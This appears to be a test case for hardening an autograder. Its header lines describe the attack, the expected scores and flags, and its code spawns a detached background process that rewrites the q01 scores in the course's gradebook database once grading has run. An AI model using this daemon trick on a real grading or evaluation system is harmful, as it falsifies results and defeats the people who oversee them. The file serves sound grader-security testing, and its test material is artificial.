# attack: Leaves a daemon that gives full points once the gradebook has been written.
# gain: points
# expect: q01=0 q02=3 q03=3
# flag: files-outside
# flag: processes

# %% q01
import subprocess
import sys

code = """
import sqlite3, time
for _ in range(40):
    time.sleep(0.25)
    try:
        database = sqlite3.connect("{COURSE}/gradebook.db", timeout=1)
        for score, word in ((1, "visible"), (2, "hidden")):
            cells = f"(SELECT id FROM base_cell WHERE name LIKE 'q01%{word}')"
            database.execute(f"UPDATE grade SET auto_score = {score}, manual_score = {score} WHERE cell_id IN {cells}")
        database.commit()
        database.close()
    except sqlite3.Error:
        pass
"""
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
n_rows = -1
